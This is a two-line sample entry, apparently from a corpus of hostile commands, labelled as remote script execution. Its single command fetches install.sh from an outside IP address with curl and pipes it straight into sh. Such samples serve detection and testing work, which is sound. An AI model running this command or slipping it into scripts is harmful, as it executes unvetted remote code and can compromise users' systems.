# corpus: curl output piped straight into sh (remote script execution)
curl -fsSL http://203.0.113.7/install.sh | sh
